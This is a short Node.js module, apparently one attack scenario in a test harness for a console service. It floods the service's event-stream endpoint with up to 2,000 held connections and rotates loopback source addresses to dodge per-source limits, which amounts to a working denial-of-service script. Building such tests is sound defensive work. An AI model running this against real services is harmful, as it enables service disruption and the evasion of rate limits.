// A console user listens to its events: with as many streams as possible, each reopened when it is refused.
import { connect } from 'node:net';

export const withConsole = true;
const streams = 2_000;

export async function attack({ consoleUrl, count, keepDoing, underWay, signal, pause }) {
  const { hostname, port, host } = new URL(consoleUrl);
  let held = 0;
  const listen = (localAddress) =>
    new Promise((resolve) => {
      const socket = connect({ host: hostname, port, localAddress });
      const end = () => socket.destroy();
      signal.addEventListener('abort', end, { once: true });
      socket.once('data', (answer) => {
        const status = String(answer).slice(9, 12);
        count(`answered ${status}`);
        if (status === '200') held += 1;
        else end();
        resolve();
      });
      socket.on('error', () => resolve());
      socket.on('close', () => {
        signal.removeEventListener('abort', end);
        resolve();
      });
      socket.write(`GET /api/events HTTP/1.1\r\nhost: ${host}\r\n\r\n`);
    });
  let opened = 0;
  underWay();
  // Each address of this machine counts as a separate source.
  await keepDoing(() => (held < streams ? listen(`127.0.0.${100 + (opened++ % 100)}`) : pause(100)), {
    concurrency: 100,
    perSecond: 1_000,
  });
}
